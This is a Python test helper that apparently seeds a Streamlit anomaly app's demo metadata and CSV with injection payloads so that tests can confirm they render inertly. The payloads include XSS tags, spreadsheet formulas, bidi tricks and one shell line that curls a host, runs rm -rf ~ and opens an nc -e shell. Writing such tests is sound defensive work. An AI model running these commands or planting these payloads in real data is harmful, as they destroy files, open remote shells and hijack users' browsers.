"""A hostile metadata file and a hostile feature file: a payload in every string field.

Payloads point at `host` (a listener on 127.0.0.1 in the tests): markup, links, CSS `url()`,
markdown images and links, bare URLs, scripts, shell metacharacters, spreadsheet formulas, bidi
and control characters, Streamlit's markdown extensions, a megabyte string in the metadata and a
100,000-character cell in the feature file.
Every string is changed the same way wherever it occurs (the same class name in the report, the
predictions and the model types stays the same name), so the files stay consistent.
"""

from __future__ import annotations

import ast
import copy
import json
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.csv as pacsv

from ei_anomaly.demo import ANOMALY_SESSION_CSV

from .constants import ROOT

MEGABYTE = 1_000_000
LONG_CELL = 100_000  # a feature file's cell: past 128 KiB the file is refused as no feature file, clearly
KEEP = {"created"}  # a date the schema parses
KEEP_VALUES = {"min_anomaly_score"}  # the anomaly threshold's key: the pages tune it


def payloads(host: str) -> list[str]:
    return [
        f'<img src="{host}/p/img" onerror="window.__injected=1">',
        f'<a href="{host}/p/a">link</a>',
        f'<span style="background:url({host}/p/css)">css</span>',
        "<script>window.__injected=2</script>",
        f"![md]({host}/p/mdimg)",
        f"[md]({host}/p/mdlink)",
        f"{host}/p/bare www.example.com a@example.com",
        f"$(curl {host}/p/sh) `id`; rm -rf ~ | nc -e /bin/sh",
        f'=HYPERLINK("{host}/p/xl","x")',
        "+SUM(1+1)",
        "@cmd",
        "\u202egnp.exe\u202c \u2066bidi\u2069",
        "\x07\x1b[31mred\x1b[0m",
        ":red[colour] $x^2$ **bold** # heading",
    ]


def shown_markers(host: str) -> list[str]:
    """Texts that, seen literally on a page, prove a payload was shown as the text it is."""
    return [
        f'<a href="{host}/p/a">',
        f"![md]({host}/p/mdimg)",
        f"[md]({host}/p/mdlink)",
        f"background:url({host}/p/css)",
        "<script>window.__injected=2</script>",
        f'=HYPERLINK("{host}/p/xl"',
    ]


class _Hostile:
    def __init__(self, host: str) -> None:
        self.payloads = payloads(host)
        self.memo: dict[str, str] = {}

    def text(self, s: str) -> str:
        if s in KEEP_VALUES:
            return s
        if s not in self.memo:
            self.memo[s] = f"{s} {self.payloads[len(self.memo) % len(self.payloads)]}"
        return self.memo[s]

    def walk(self, node: Any, key: str = "") -> Any:
        if isinstance(node, dict):
            out = {}
            for k, v in node.items():
                # free-form keys (class names of the classification report) are outside text too
                name = self.text(k) if key == "report" else k
                out[name] = self.walk(v, k)
            return out
        if isinstance(node, list):
            return [self.walk(v, key) for v in node]
        if isinstance(node, str) and key not in KEEP:
            return self.text(node)
        return node


def hostile_metadata(host: str) -> dict[str, Any]:
    """The demo's metadata with a payload in every string (one megabyte long description)."""
    meta = json.loads((ROOT / "ei_anomaly/data/demo/metadata.json").read_text())
    hostile: dict[str, Any] = _Hostile(host).walk(copy.deepcopy(meta))
    hostile["thresholds"][0]["description"] = "M" * MEGABYTE + " " + payloads(host)[1]
    return hostile


def hostile_features(host: str, path: Path) -> Path:
    """The demo's anomaly session with payloads in its time column, a device column and two
    column names; one 100,000-character cell (a megabyte cell is refused: "cannot parse the CSV")."""
    table = pacsv.read_csv(ANOMALY_SESSION_CSV)
    p = payloads(host)
    times = [f"{t} {p[i % len(p)]}" for i, t in enumerate(table.column("timestamp").to_pylist())]
    devices = [p[(i + 3) % len(p)] for i in range(table.num_rows)]
    devices[0] = "D" * LONG_CELL
    table = table.set_column(0, f"timestamp {p[1]}", pa.array(times))
    table = table.append_column(f"device {p[4]}", pa.array(devices))
    pacsv.write_csv(table, path)
    return path


def app_page_titles() -> list[str]:
    """The titles of every page app.py registers (`st.Page(..., title=...)`), in order: a page
    added later is covered by the tests that iterate over these."""
    tree = ast.parse((ROOT / "app.py").read_text())
    titles = []
    for node in ast.walk(tree):
        if isinstance(node, ast.Call) and getattr(node.func, "attr", "") == "Page":
            for kw in node.keywords:
                if kw.arg == "title" and isinstance(kw.value, ast.Constant):
                    titles.append(str(kw.value.value))
    return titles
